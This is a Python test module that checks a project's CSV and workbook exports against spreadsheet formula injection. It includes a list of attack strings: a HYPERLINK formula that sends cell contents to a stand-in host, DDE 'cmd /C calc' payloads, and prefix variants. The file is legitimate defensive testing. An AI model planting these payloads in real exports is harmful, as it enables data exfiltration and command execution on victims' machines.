"""Whatever people type, no spreadsheet calculates it. Row 10; ASVS 1.2.10."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from engine.usecases.event_logs.commas import COLUMNS, write_csv
from engine.usecases.imports.sample import sample_workbook
from engine.usecases.spreadsheets import Book, csv_line, plain
from tests.security.house_tree import programs

CALCULATED = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
ATTACKS = (
    '=HYPERLINK("http://elsewhere.example?x="&A1;"press")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "a;=1+1",
    'a,"=1+1',
    "x\r\n=1+1;=2+2",
    "\0=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\x07=1+1",
    "=1+1\ud83d\ude00",
)
TEXTS = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(max_size=40),
    st.builds(
        str.__add__, st.sampled_from(("=", "+", "-", "@", "\t", "\r", ";=", ",=")), st.text()
    ),
)


def calculated(cell):
    return cell.lstrip(" ").startswith(CALCULATED) and len(cell.strip()) > 0


@settings(max_examples=150, deadline=None)
@given(st.lists(TEXTS, min_size=2, max_size=5), st.sampled_from((",", ";")))
def test_no_cell_of_csv_is_calculated_and_nothing_else_is_changed(texts, separator):
    line = csv_line(texts, separator)
    [row] = csv.reader(io.StringIO(line, newline=""), delimiter=separator)
    assert not [cell for cell in row if calculated(cell)]
    assert row == [plain(text) for text in texts]


@settings(max_examples=60, deadline=None)
@given(st.lists(TEXTS.map(lambda t: t.encode("utf-8", "ignore").decode()), max_size=5))
def test_no_cell_of_a_workbook_is_a_formula_when_it_is_opened_again(texts):
    book = Book()
    sheet = book.sheet("=A[1]*'x", widths=[10], headed=True)
    sheet.append(texts, bold=True)
    sheet.append(texts, formats=["@"] * len(texts))
    found = load_workbook(io.BytesIO(book.content()))
    cells = [cell for row in found.worksheets[0].iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]


def test_a_workbook_written_the_plain_way_would_calculate():
    """The positive control."""
    book = Workbook()
    book.worksheets[0].append([ATTACKS[0]])
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).worksheets[0]["A1"].data_type == "f"
    rough = io.StringIO()
    csv.writer(rough).writerow([ATTACKS[0]])
    assert any(calculated(cell) for row in csv.reader([rough.getvalue()]) for cell in row)


def test_an_event_log_calculates_nothing():
    class Entry(SimpleNamespace):
        at = SimpleNamespace(isoformat=lambda: "2026-01-01T00:00:00+00:00")

        def __getattr__(self, _name):
            return ATTACKS[0]

    to = io.BytesIO()
    write_csv([Entry()], to)
    head, row = csv.reader(io.StringIO(to.getvalue().decode(), newline=""))
    assert tuple(head) == COLUMNS
    assert not [cell for cell in row if calculated(cell)]


def test_the_sample_workbook_calculates_nothing():
    book = load_workbook(io.BytesIO(sample_workbook()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert len(cells) > 100
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_there_is_one_writer_of_each_kind():
    """`csv` and new workbooks are in one file; `openpyxl` is read and renamed in two more."""
    writer = "engine/usecases/spreadsheets.py"
    allowed = {
        "openpyxl": {writer, "engine/usecases/imports/cells.py", "app/training/rename.py"},
        "csv": set(),
        "xlsxwriter": set(),
        "pandas": set(),
        "xlwt": set(),
        "odf": set(),
    }
    found = {
        (name, module)
        for name, program in programs().items()
        for module in program.imports
        if (root := module.partition(".")[0]) in allowed and name not in allowed[root]
    }
    assert found == set()
    made = {
        name
        for name, program in programs().items()
        for _node, called in program.calls
        if called in {"Workbook", "openpyxl.Workbook", "csv.writer", "csv.DictWriter"}
    }
    assert made <= {writer}


@pytest.mark.parametrize("path", ["/skp", "/bawahan", "/tugas", "/proses", "/buku", "/klaim"])
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_tables_of_pages_go_out_by_that_writer(poisoned, path, form):
    """Names and titles that begin a formula, on the pages that hand out tables."""
    for who in ("sari", "budi", "tri"):
        answer = poisoned.page(who).get(f"{path}?bentuk={form}")
        if answer.status_code != 200 or answer.mimetype == "text/html":
            continue
        if form == "csv":
            text = answer.get_data(as_text=True).removeprefix("\ufeff")
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
                assert not [cell for cell in row if calculated(cell)], path
        else:
            for sheet in load_workbook(io.BytesIO(answer.data)).worksheets:
                cells = [cell for row in sheet.iter_rows() for cell in row]
                assert not [cell for cell in cells if cell.data_type == "f"], path


@pytest.fixture(scope="module")
def poisoned(city):
    from engine.domain.outputs import Output  # noqa: PLC0415 - of this fixture
    from engine.domain.people import Person  # noqa: PLC0415 - likewise
    from tests.access.test_bad_input import replace  # noqa: PLC0415 - likewise

    with city.house.writing() as uow:
        row = uow.agency.get(Person, city.ids["sari"])
        uow.agency.put(replace(row, name=ATTACKS[0]))
        made = uow.contributions.get(Output, city.ids["TIM-01/1"])
        uow.contributions.put(replace(made, title=ATTACKS[1]))
        uow.commit()
    yield city
    with city.house.writing() as uow:
        uow.agency.put(row)
        uow.contributions.put(made)
        uow.commit()
